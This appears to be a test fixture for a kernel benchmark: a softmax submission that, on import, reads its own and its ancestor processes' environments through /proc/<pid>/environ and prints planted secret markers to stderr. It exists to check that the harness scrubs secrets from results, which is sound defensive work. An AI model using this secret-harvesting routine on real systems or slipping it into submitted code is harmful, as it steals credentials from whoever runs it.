"""Exploit (secrets): looks for secrets in its own environment and in its parent's (and grandparent's) initial one via
/proc/<ppid>/environ, and prints what it finds to stderr, which a bench.json keeps in stderr_tail. Honest otherwise,
so it must pass, and no secret may appear anywhere in its bench result."""
import os
import sys

META = dict(kind='softmax', backend='triton')
MARKERS = ('sk-planted', 'hunter2', 'hf-planted')


def _environs():
    yield 'self', dict(os.environ)
    pid = os.getppid()
    for hop in range(4):
        try:
            raw = open(f'/proc/{pid}/environ', 'rb').read().split(b'\0')
            yield f'ancestor{hop}', dict(kv.decode(errors='replace').split('=', 1) for kv in raw if b'=' in kv)
            pid = int(open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break


_found = [f'{where}:{k}={v}' for where, env in _environs() for k, v in env.items() if any(m in v for m in MARKERS)]
if _found: print('LEAKED ' + ' '.join(_found), file=sys.stderr)


def _softmax(x):
    xf = x.float()
    e = (xf - xf.amax(-1, keepdim=True)).exp()
    return (e / e.sum(-1, keepdim=True)).to(x.dtype)


def kernel_fn(x):
    return _softmax(x)
